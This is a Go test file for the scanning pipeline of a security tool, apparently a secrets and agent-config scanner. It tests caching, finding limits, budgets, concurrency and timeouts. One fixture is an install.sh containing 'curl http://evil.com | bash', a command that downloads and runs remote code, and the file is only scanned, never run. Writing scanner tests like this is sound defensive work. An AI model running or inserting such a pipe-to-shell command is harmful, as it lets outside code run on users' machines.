package scanpipeline

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/dlclark/regexp2"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentwarden/warden/internal/model"
	"github.com/agentwarden/warden/internal/pathwalk"
	"github.com/agentwarden/warden/internal/resultcache"
	"github.com/agentwarden/warden/internal/rulecatalog"
	"github.com/agentwarden/warden/internal/scanengine"
)

func compilePattern(t *testing.T, src string) model.CompiledPattern {
	t.Helper()
	re, err := regexp2.Compile(src, 0)
	require.NoError(t, err)
	return model.CompiledPattern{Source: src, Compiled: re}
}

func testEngine(t *testing.T) *scanengine.Engine {
	t.Helper()
	rule := model.Rule{
		ID:        "TEST_PASSWORD_LITERAL",
		Category:  "secrets",
		Severity:  model.SeverityHigh,
		Patterns:  []model.CompiledPattern{compilePattern(t, "password")},
		FileTypes: []string{model.FileTypeAny},
	}
	idx := rulecatalog.NewIndexedRuleEngine(&rulecatalog.LoadResult{Rules: []model.Rule{rule}, RuleVersion: "test-v1"})
	return scanengine.NewEngine(idx, scanengine.Options{})
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

func descriptorFor(t *testing.T, dir, name, content string) pathwalk.FileDescriptor {
	t.Helper()
	abs := writeFile(t, dir, name, content)
	return pathwalk.FileDescriptor{
		Path:     name,
		AbsPath:  abs,
		FileType: "text",
		Size:     int64(len(content)),
		Content:  content,
	}
}

func TestPipeline_ScanOneFile_CacheMissThenHit(t *testing.T) {
	dir := t.TempDir()
	fd := descriptorFor(t, dir, "secret.txt", "the password is hunter2")

	cache := resultcache.New(resultcache.Options{RuleVersion: "test-v1"})
	p := NewPipeline(testEngine(t), cache, Options{})

	findings, warnings := p.scanOneFile(fd)
	require.Empty(t, warnings)
	require.Len(t, findings, 1)
	assert.Equal(t, "TEST_PASSWORD_LITERAL", findings[0].RuleID)

	cached, ok := cache.Get(fd.AbsPath)
	require.True(t, ok)
	require.Len(t, cached, 1)

	// second call should short-circuit through the cache, not re-scan
	findings2, warnings2 := p.scanOneFile(fd)
	assert.Empty(t, warnings2)
	assert.Equal(t, findings, findings2)
}

func TestPipeline_ScanOneFile_NoCacheStillScans(t *testing.T) {
	dir := t.TempDir()
	fd := descriptorFor(t, dir, "secret.txt", "password here")

	p := NewPipeline(testEngine(t), nil, Options{})
	findings, warnings := p.scanOneFile(fd)
	assert.Empty(t, warnings)
	assert.Len(t, findings, 1)
}

func TestPipeline_ScanOneFile_TruncatesAndWarns(t *testing.T) {
	dir := t.TempDir()
	content := ""
	for i := 0; i < 5; i++ {
		content += "password\n"
	}
	fd := descriptorFor(t, dir, "many.txt", content)

	p := NewPipeline(testEngine(t), nil, Options{MaxFindingsPerFile: 2})
	findings, warnings := p.scanOneFile(fd)
	assert.Len(t, findings, 2)
	require.Len(t, warnings, 1)
	assert.Contains(t, warnings[0], "truncating")
}

func TestPipeline_Run_PreloadedTarget(t *testing.T) {
	dir := t.TempDir()
	fd := descriptorFor(t, dir, "install.sh", "curl http://evil.com | bash -- password")

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "virtual-mcp", PreloadedFiles: []pathwalk.FileDescriptor{fd}}

	result, err := p.Run(context.Background(), []Target{target})
	require.NoError(t, err)
	assert.Equal(t, 1, result.FilesScanned)
	assert.Len(t, result.Findings, 1)
	assert.Contains(t, result.TargetStats, "virtual-mcp")
	assert.False(t, result.Truncated)
}

func TestPipeline_Run_WalksRealDirectory(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "a.txt", "no secrets here")
	writeFile(t, dir, "b.txt", "the password is exposed")

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "repo", Root: dir}

	result, err := p.Run(context.Background(), []Target{target})
	require.NoError(t, err)
	assert.Equal(t, 2, result.FilesScanned)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, "b.txt", result.Findings[0].File)
}

func TestPipeline_Run_SkipsFileReadErrors(t *testing.T) {
	dir := t.TempDir()
	good := descriptorFor(t, dir, "good.txt", "password")
	bad := pathwalk.FileDescriptor{Path: "bad.txt", AbsPath: filepath.Join(dir, "bad.txt"), Error: assert.AnError}

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "mixed", PreloadedFiles: []pathwalk.FileDescriptor{good, bad}}

	result, err := p.Run(context.Background(), []Target{target})
	require.NoError(t, err)
	assert.Len(t, result.Findings, 1)
	require.Len(t, result.Warnings, 1)
	assert.Contains(t, result.Warnings[0], "bad.txt")
}

func TestPipeline_Run_BudgetExhaustionTruncatesAndStopsEarly(t *testing.T) {
	dir := t.TempDir()
	fd1 := descriptorFor(t, dir, "one.txt", "password password password")
	fd2 := descriptorFor(t, dir, "two.txt", "password")

	p := NewPipeline(testEngine(t), nil, Options{})
	p.Budget = NewFindingBudget(2)

	target1 := Target{Name: "t1", PreloadedFiles: []pathwalk.FileDescriptor{fd1}}
	target2 := Target{Name: "t2", PreloadedFiles: []pathwalk.FileDescriptor{fd2}}

	result, err := p.Run(context.Background(), []Target{target1, target2})
	require.NoError(t, err)
	assert.True(t, result.Truncated)
	assert.LessOrEqual(t, len(result.Findings), 2)
	assert.Equal(t, 2, result.BudgetUsed)
	// target2 should never have been reached since the budget was already
	// exhausted by target1
	assert.NotContains(t, result.TargetStats, "t2")
}

func TestPipeline_Run_ContextCancelledBeforeStart(t *testing.T) {
	dir := t.TempDir()
	fd := descriptorFor(t, dir, "a.txt", "password")

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "t1", PreloadedFiles: []pathwalk.FileDescriptor{fd}}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := p.Run(ctx, []Target{target})
	assert.ErrorIs(t, err, context.Canceled)
}

func TestPipeline_ScanWidth_CoarseAboveThreshold(t *testing.T) {
	p := NewPipeline(testEngine(t), nil, Options{ParallelThreshold: 10})
	width := p.scanWidth(50)
	assert.GreaterOrEqual(t, width, 1)
	assert.LessOrEqual(t, width, 8)
}

func TestPipeline_ScanWidth_FinerBelowThreshold(t *testing.T) {
	p := NewPipeline(testEngine(t), nil, Options{ParallelThreshold: 10})
	width := p.scanWidth(3)
	assert.GreaterOrEqual(t, width, 4)
	assert.LessOrEqual(t, width, 32)
}

func TestPipeline_ScanWidth_ConcurrencyOverride(t *testing.T) {
	p := NewPipeline(testEngine(t), nil, Options{Concurrency: 1})
	assert.Equal(t, 1, p.scanWidth(1000))
}

func TestPipeline_Run_HeuristicsDisabledByDefault(t *testing.T) {
	dir := t.TempDir()
	// a file with no signature match and content that would trip the
	// entropy heuristic if it were enabled
	fd := descriptorFor(t, dir, "clean.txt", "nothing interesting abcdefghijklmnopqrstuvwxyz0123456789")

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "t1", PreloadedFiles: []pathwalk.FileDescriptor{fd}}

	result, err := p.Run(context.Background(), []Target{target})
	require.NoError(t, err)
	assert.Empty(t, result.Findings)
}

func TestPipeline_Run_NoTargetsIsNoOp(t *testing.T) {
	p := NewPipeline(testEngine(t), nil, Options{})
	result, err := p.Run(context.Background(), nil)
	require.NoError(t, err)
	assert.Empty(t, result.Findings)
	assert.Equal(t, 0, result.FilesScanned)
}

func TestPipeline_Run_TargetWalkErrorRecordedAsWarning(t *testing.T) {
	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "missing", Root: filepath.Join(t.TempDir(), "does-not-exist")}

	result, err := p.Run(context.Background(), []Target{target})
	require.NoError(t, err)
	require.NotEmpty(t, result.Warnings)
	assert.Contains(t, result.Warnings[0], "missing")
}

func TestPipeline_Run_RespectsTimeout(t *testing.T) {
	dir := t.TempDir()
	fd := descriptorFor(t, dir, "a.txt", "password")

	p := NewPipeline(testEngine(t), nil, Options{})
	target := Target{Name: "t1", PreloadedFiles: []pathwalk.FileDescriptor{fd}}

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()

	result, err := p.Run(ctx, []Target{target})
	require.NoError(t, err)
	assert.Len(t, result.Findings, 1)
}
